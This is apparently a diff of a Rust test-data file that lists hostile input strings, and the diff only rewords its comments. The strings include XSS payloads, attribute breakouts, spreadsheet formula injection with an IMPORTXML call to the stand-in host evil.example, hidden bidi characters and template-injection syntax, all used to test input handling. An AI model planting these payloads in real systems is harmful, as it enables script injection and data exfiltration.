@@ -1,9 +1,10 @@
-//! Texts that do harm where a page, a table, a terminal or a person takes them for something else. Our own, by what they try.
+//! Texts that do harm where a page, a table, a terminal or a person misinterprets them. We wrote them ourselves and grouped them by
+//! the kind of attack.
 
-/// Longest text, in characters: beyond what any field keeps.
+/// Length of the longest text in characters, more than any field stores.
 const LONG: usize = 3000;
 
-/// Elements that do something by being there.
+/// Elements that act by their mere presence.
 const MARKUP: [&str; 30] = [
     "<script>alert(1)</script>",
     "<ScRiPt>alert(1)</sCrIpT>",
@@ -37,7 +38,7 @@ const MARKUP: [&str; 30] = [
     "<?php echo 1; ?>",
 ];
 
-/// What ends where a text may stand.
+/// Pieces that end the context in which a text may stand.
 const BREAKS: [&str; 14] = [
     "",
     "\"",
@@ -55,7 +56,7 @@ const BREAKS: [&str; 14] = [
     "\\\">",
 ];
 
-/// Attributes, for where markup itself is taken out.
+/// Attributes, for places where markup itself is removed.
 const ATTRIBUTES: [&str; 12] = [
     "\" onmouseover=\"alert(1)",
     "' onmouseover='alert(1)",
@@ -71,7 +72,7 @@ const ATTRIBUTES: [&str; 12] = [
     "\"/><x y=\"",
 ];
 
-/// What begins a formula in one spreadsheet or another.
+/// Characters that begin a formula in some spreadsheet.
 const FORMULA_STARTS: [&str; 14] = [
     "=",
     "+",
@@ -96,7 +97,7 @@ const FORMULAS: [&str; 5] = [
     "IMPORTXML(\"http://evil.example\",\"//a\")",
 ];
 
-/// What turns, hides or stacks writing.
+/// Characters that reverse, hide or stack text.
 const HIDDEN: [char; 26] = [
     '\u{202a}',
     '\u{202b}',
@@ -126,7 +127,7 @@ const HIDDEN: [char; 26] = [
     '\u{e007f}',
 ];
 
-/// What template engines, shells, databases, parsers and paths take for theirs.
+/// Syntax of template engines, shells, databases, parsers and paths.
 const SYNTAX: [&str; 70] = [
     "{{7*7}}",
     "${7*7}",
@@ -200,7 +201,7 @@ const SYNTAX: [&str; 70] = [
     "a\"b\"\"c",
 ];
 
-/// Writing that is right, and has to stay so.
+/// Valid text, which must stay unchanged.
 const WRITING: [&str; 24] = [
     "Ünïcödé",
     "中文字符",
@@ -228,7 +229,7 @@ const WRITING: [&str; 24] = [
     "\u{1f}".trim_ascii(),
 ];
 
-/// Nothing, or hardly anything.
+/// Empty and nearly empty texts.
 const SHORT: [&str; 14] = [
     "",
     " ",
@@ -246,7 +247,7 @@ const SHORT: [&str; 14] = [
     "😀\u{fe0f}",
 ];
 
-/// All of them.
+/// Returns all texts.
 pub fn strings() -> Vec<String> {
     let mut all: Vec<String> = MARKUP.map(str::to_owned).into();
     let after = BREAKS.iter().skip(1);
@@ -283,7 +284,7 @@ pub fn strings() -> Vec<String> {
         ]
         .map(str::to_owned),
     );
-    // Long ones: a word without an end, many elements, much stacking.
+    // Long texts: an endless word, many elements, deep stacking.
     all.extend(
         [
             "x", "<b>", "\u{301}", "W ", "😀", "../", "\"", "&lt;", "(", "{{",
